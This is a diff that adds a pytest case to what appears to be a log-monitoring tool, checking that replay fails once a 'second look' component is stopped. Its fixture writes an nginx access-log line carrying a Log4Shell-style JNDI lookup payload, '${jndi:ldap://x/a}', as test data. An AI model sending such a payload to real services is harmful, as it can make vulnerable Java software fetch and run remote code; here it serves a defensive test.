@@ -252,3 +252,14 @@ def test_a_rule_file_that_is_not_there_is_wrong_input(machine: Machine, tmp_path
     machine.open().close()
     with pytest.raises(FengsuiError, match=r"name a rule file.*fengsui\.rule\.unreadable"):
         fengsui("backtest", tmp_path / "none.yml", data=machine.data)
+
+
+def test_a_platform_that_stops_waits_for_no_replay(machine: Machine) -> None:
+    site = machine.open()
+    machine.write("nginx-access", access("/?q=${jndi:ldap://x/a}", at=now(200)))
+    until(site, lambda: site.pipeline.progress.events == 1)
+    look = site.second_look
+    look.stop()
+    with pytest.raises(FengsuiError, match=r"fengsui\.replay\.stopped"):
+        look.replay(SystemClock().now() - 3600 * SECOND)
+    site.close()
